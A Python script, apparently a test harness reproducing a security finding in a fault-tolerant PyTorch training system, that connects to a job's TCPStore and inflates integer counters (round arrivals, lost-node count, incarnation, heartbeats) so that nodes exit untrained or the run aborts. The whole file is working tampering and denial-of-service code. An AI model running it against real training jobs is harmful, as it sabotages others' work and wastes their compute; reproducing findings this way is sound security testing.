"""An attacker that reaches a job's store and knows its run id, but not its secret, and adds to
counters -- the one write a secret cannot seal (issue 24, finding 1).

Before the participants arrive it bumps what the protocol of the first trust round counted:
the arrivals of rounds 0-5 (which made every node "extra": exit 0 untrained), the count of
participants lost for good (which made the coordinator close the run TOO_FEW_NODES under the
job's own seal: exit 83) and the incarnation counter. Then, for as long as it runs, it lists
the store's keys (``TCPStore.list_keys``) and adds to every key whose value is an integer, as
keys appear: round numbers, hints, heartbeats, torch's own counters.

    python bump_counters.py --endpoint HOST:PORT --run-id RUN --seconds S
"""

from __future__ import annotations

import argparse
import datetime
import time

import torch.distributed as dist


def connect(host: str, port: int) -> dist.TCPStore:
    return dist.TCPStore(host, port, is_master=False, timeout=datetime.timedelta(seconds=10))


def is_integer(raw: bytes) -> bool:
    try:
        int(raw)
    except ValueError:
        return False
    return True


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--endpoint", required=True)
    parser.add_argument("--run-id", required=True)
    parser.add_argument("--seconds", type=float, default=60.0)
    args = parser.parse_args()
    host, _, port = args.endpoint.rpartition(":")
    store = connect(host, int(port))
    run = f"lightning_ft/{args.run_id}"
    first = [f"{run}/i0/r{round_id}/arrived" for round_id in range(6)] + [f"{run}/i0/lost_count",
                                                                           f"{run}/incarnation"]
    for key, amount in zip(first, [10] * 6 + [1000, 3], strict=True):
        try:
            store.add(key, amount)
        except (RuntimeError, OSError):  # not an integer there (already sealed): dropped, reconnect
            store = connect(host, int(port))
    print("bumping", flush=True)
    deadline = time.monotonic() + args.seconds
    bumps = 0
    while time.monotonic() < deadline:
        try:
            for key in store.list_keys():
                # ``add`` on a value that is not an integer makes the server drop this client:
                # read first, add only to integers (a get/add race with a writer just reconnects)
                if is_integer(bytes(store.get(key))):
                    store.add(key, 1000)
                    bumps += 1
        except (RuntimeError, OSError):  # the job's store is gone, or it dropped us: reconnect
            try:
                store = connect(host, int(port))
            except (RuntimeError, OSError):
                break
        # a pass reads every key of the store (hundreds): twice a second still bumps every counter
        # many times over, without taking a core away from the job on a machine that has two
        time.sleep(0.5)
    print(f"bumped {bumps} times", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
